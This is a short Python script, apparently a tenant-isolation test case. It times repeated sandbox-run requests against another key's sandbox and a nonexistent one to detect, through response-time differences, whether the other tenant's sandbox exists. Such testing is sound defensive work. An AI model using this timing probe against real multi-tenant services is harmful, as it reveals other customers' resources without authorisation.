# aim: learn whether a sandbox of another key exists
# mechanism: how long an answer takes, the best of many, one after the other in turn
# server: tenancy
# plain: owner

import time

never = "a" * len(theirs.sandbox)


def best(times, sandbox):
    began = time.perf_counter()
    ask("POST", f"/v1/sandboxes/{sandbox}/run", {"code": "sum(range(300_000))"})
    times.append(time.perf_counter() - began)


def attack():
    there_is, never_was = [], []
    for _ in range(40):
        best(there_is, theirs.sandbox)
        best(never_was, never)
    if min(there_is) > 2 * min(never_was) or min(never_was) > 2 * min(there_is):
        return f"{min(there_is) * 1000:.2f} ms, and {min(never_was) * 1000:.2f} ms for what never was"


judge(attack)
